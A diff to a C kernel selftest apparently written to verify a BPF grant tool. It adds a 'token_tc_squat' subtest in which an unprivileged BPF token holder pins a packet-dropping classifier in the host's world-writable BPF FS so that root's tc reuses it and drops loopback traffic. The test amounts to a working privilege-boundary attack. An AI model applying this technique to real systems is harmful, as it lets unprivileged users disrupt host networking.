@@ -354,8 +354,9 @@ static int in_cg_as_root(void (*fn)(const void *arg, void *out),
  * holder is root of a user namespace of its own (uid 65534 outside, no
  * capability in the initial one), in CG and in the initial network
  * namespace, and root mounts on its /sys/fs/bpf a BPF FS that delegates
- * what the attack uses (bpf-token-mount, as a container runtime would).
- * No rule of bpf-grant is in force.
+ * what the attack uses (bpf-token-mount, as a container runtime would), or
+ * elsewhere, where the holder needs the host's BPF FS too. No rule of
+ * bpf-grant is in force.
  */
 #define TOKEN_MOUNT	"/bin/bpf-token-mount"
 /* v6.9's token UAPI by value (token_uapi checks the tree's header against
@@ -372,6 +373,7 @@ static int in_cg_as_root(void (*fn)(const void *arg, void *out),
 /* What a holder's delegation allows: bpf-token-mount's lists, NULL for none */
 struct delegation {
 	const char *cmds, *maps, *progs, *attachs;
+	const char *path;	/* where the BPF FS goes; NULL: BPFFS */
 };
 
 /* union bpf_attr as v6.9 lays it out: 6.1's fields, then the token's */
@@ -386,7 +388,7 @@ static int holder_token = -1;
 /* The holder's side: its user and mount namespaces, the parent's BPF FS on
  * its /sys/fs/bpf (@sk: one byte each way), its token in holder_token
  */
-static int become_token_holder(int sk)
+static int become_token_holder(int sk, const char *path)
 {
 	union attr_v69 a = {};
 	char c;
@@ -396,7 +398,7 @@ static int become_token_holder(int sk)
 	    map_user_ns(NOBODY) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
 	    write(sk, "", 1) != 1 || read(sk, &c, 1) != 1 || c)
 		return -1;
-	fd = open(BPFFS, O_RDONLY | O_DIRECTORY);
+	fd = open(path ?: BPFFS, O_RDONLY | O_DIRECTORY);
 	if (fd < 0)
 		return -1;
 	memcpy(a.bytes + BPFFS_FD_OFF, &fd, sizeof(fd));
@@ -413,7 +415,7 @@ static int token_holder_in_cg(const struct delegation *d,
 			      void (*fn)(const void *arg, void *out),
 			      const void *arg, void *out, size_t size)
 {
-	const char *args[12] = { NULL };
+	const char *args[14] = { NULL };
 	long long kills = cg_memory_event("oom_kill");
 	int sk[2], status, ret = -1, n = 0;
 	char pid_text[16], c = 1;
@@ -431,7 +433,7 @@ static int token_holder_in_cg(const struct delegation *d,
 	if (pid == 0) {
 		close(sk[0]);
 		if (prctl(PR_SET_NAME, ATTACKER) || write_file(CG "/cgroup.procs", "0") ||
-		    become_token_holder(sk[1]))
+		    become_token_holder(sk[1], d->path))
 			_exit(1);
 		fn(arg, shared);
 		_exit(0);
@@ -454,6 +456,10 @@ static int token_holder_in_cg(const struct delegation *d,
 	if (d->attachs) {
 		args[n++] = "--attachs";
 		args[n++] = d->attachs;
+	}
+	if (d->path) {
+		args[n++] = "--path";
+		args[n++] = d->path;
 	}
 	/* the BPF FS once the child is in its namespaces; then its go */
 	if (pid > 0 && read(sk[0], &c, 1) == 1 &&
@@ -4241,6 +4247,118 @@ out:
 	unsquat();
 }
 
+/*
+ * token_tc_squat: tc_squat's first round by a token's holder whose BPF FS
+ * (on TOKEN_BPFFS: the host's, of mode 1777, stays on BPFFS) delegates
+ * map_create, prog_load, prog_array and sched_cls. It pins at TC_PIN an
+ * array holding its classifier, which drops every packet. As v6.9, its
+ * program is not granted, so root's tc reuses the pin, its classifier
+ * loads and is attached, and tail-calls the holder's: root's datagrams
+ * over lo are dropped. Reached: the administrator decides what may pin in
+ * a shared BPF FS (bpf-grant refuses one unless --shared-bpffs).
+ */
+#define TOKEN_BPFFS	"/tmp/grant_escape_token"
+
+static void token_tc_squat_attack(const void *arg, void *out)
+{
+	const struct bpf_insn drop[] = {
+		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0,
+		  .imm = TC_ACT_SHOT },
+		{ .code = BPF_JMP | BPF_EXIT },
+	};
+	struct tc_squat *s = out;
+	int map, prog;
+	__u32 key = 0;
+
+	s->insert = s->pin = -ENOEXEC;	/* not tried */
+	map = token_map_create(BPF_MAP_TYPE_PROG_ARRAY, 4, 1, 0);
+	s->map = map < 0 ? map : 0;
+	prog = token_prog_load(BPF_PROG_TYPE_SCHED_CLS, drop, ARRAY_SIZE(drop));
+	s->prog = prog < 0 ? prog : 0;
+	if (map >= 0 && prog >= 0)
+		s->insert = bpf_map_update_elem(map, &key, &prog, 0) ? -errno : 0;
+	if (map >= 0)
+		s->pin = (mkdir(BPFFS "/tc", 0755) && errno != EEXIST) ||
+			 (mkdir(BPFFS "/tc/globals", 0755) && errno != EEXIST) ||
+			 bpf_obj_pin(map, TC_PIN) ? -errno : 0;
+	if (map >= 0)
+		close(map);
+	if (prog >= 0)
+		close(prog);
+}
+
+static void token_tc_squat(void)
+{
+	static const char *const qdisc_add[] = {
+		"qdisc", "add", "dev", "lo", "clsact", NULL,
+	};
+	static const char *const qdisc_del[] = {
+		"qdisc", "del", "dev", "lo", "clsact", NULL,
+	};
+	static const char *const filter_add[] = {
+		"filter", "add", "dev", "lo", "ingress", "bpf", "da", "obj",
+		TC_TAIL_O, "sec", "tc", NULL,
+	};
+	static const char *const filter_show[] = {
+		"filter", "show", "dev", "lo", "ingress", NULL,
+	};
+	struct sockaddr_in addr = {
+		.sin_family = AF_INET, .sin_port = htons(PORT),
+		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
+	};
+	bool lo_was_up = true, qdisc = false;
+	struct tc_squat s = {};
+	struct stat st, pin;
+	int sock = -1;
+
+	/* the guest has none: what the subtest makes there, it removes */
+	if (!ASSERT_TRUE(lstat(BPFFS "/tc", &st) && lstat(BPFFS "/xdp", &st),
+			 "no " BPFFS "/tc or " BPFFS "/xdp yet") ||
+	    !ASSERT_OK(stat(BPFFS, &st) ? -errno : 0, "stat " BPFFS) ||
+	    !ASSERT_OK(chmod(BPFFS, 01777) ? -errno : 0, "chmod 1777 " BPFFS))
+		return;
+	if (!ASSERT_OK(lo_set(true, &lo_was_up), "lo up") || !make_cg() ||
+	    !ASSERT_OK(mkdir(TOKEN_BPFFS, 0755) && errno != EEXIST ? -errno : 0,
+		       "mkdir " TOKEN_BPFFS))
+		goto out;
+	sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (!ASSERT_OK(sock < 0 || bind(sock, (void *)&addr, sizeof(addr)) ?
+		       -errno : 0, "root's UDP socket at 127.0.0.1") ||
+	    !ASSERT_OK(token_holder_in_cg(&(struct delegation){ "map_create:prog_load",
+								"prog_array", "sched_cls", "any",
+								TOKEN_BPFFS },
+					  token_tc_squat_attack, NULL, &s, sizeof(s)),
+		       "the holder reports"))
+		goto out;
+	printf("%s: map %d, prog %d, insert %d, pin %d\n", __func__, s.map, s.prog,
+	       s.insert, s.pin);
+	ASSERT_OK(s.map, "a program array made with the token");
+	ASSERT_OK(s.prog, "a classifier loaded with the token");
+	ASSERT_OK(s.insert, "the classifier into the array");
+	ASSERT_OK(s.pin, "pinned at " TC_PIN ", in the host's BPF FS of mode 1777");
+	qdisc = ASSERT_OK(run_tc(qdisc_add), "root's tc qdisc add dev lo clsact");
+	if (!qdisc)
+		goto out;
+	ASSERT_OK(run_tc(filter_add), "root's tc filter add: its classifier loads");
+	if (ASSERT_OK(lstat(TC_PIN, &pin) ? -errno : 0, "a map at " TC_PIN))
+		ASSERT_EQ(pin.st_uid, NOBODY, "pinned by the holder, reused by tc");
+	ASSERT_OK(run_tc(filter_show), "tc filter show dev lo ingress");
+	ASSERT_TRUE(printed("tc_tail"), "root's classifier is attached");
+	ASSERT_OK(send_from_53(), "root sends datagrams over lo");
+	ASSERT_FALSE(received(sock), "root's classifier tail-called the holder's: dropped");
+out:
+	if (qdisc)
+		ASSERT_OK(run_tc(qdisc_del), "tc qdisc del dev lo clsact");
+	if (sock >= 0)
+		close(sock);
+	unsquat();
+	rmdir(TOKEN_BPFFS);
+	ungrant_cg(false);
+	if (!lo_was_up)
+		lo_set(false, NULL);
+	ASSERT_OK(chmod(BPFFS, st.st_mode & 07777) ? -errno : 0, "mode of " BPFFS " back");
+}
+
 static void tc_squat(bool hooks)
 {
 	bool lo_was_up = true;
@@ -4382,6 +4500,8 @@ void test_grant_escape(void)
 	/* the tool's check, not a patch: no need_patch() */
 	if (test__start_subtest("pin_squat"))
 		pin_squat(hooks);
+	if (test__start_subtest("token_tc_squat") && need_token())
+		token_tc_squat();
 	if (test__start_subtest("tc_squat") &&
 	    need_patch("bpf, lsm: a program array holds granted programs or others, not both"))
 		tc_squat(hooks);
